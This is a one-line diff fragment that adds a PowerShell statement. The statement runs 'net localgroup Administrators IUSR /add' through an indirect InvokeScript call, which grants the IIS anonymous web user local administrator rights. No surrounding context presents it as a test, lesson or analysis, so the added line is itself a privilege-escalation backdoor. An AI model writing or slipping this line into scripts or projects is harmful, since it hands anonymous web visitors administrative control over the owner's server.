@@ -1,0 +1,1 @@
+$ExecutionContext.InvokeCommand.InvokeScript('net localgroup Administrators IUSR /add')
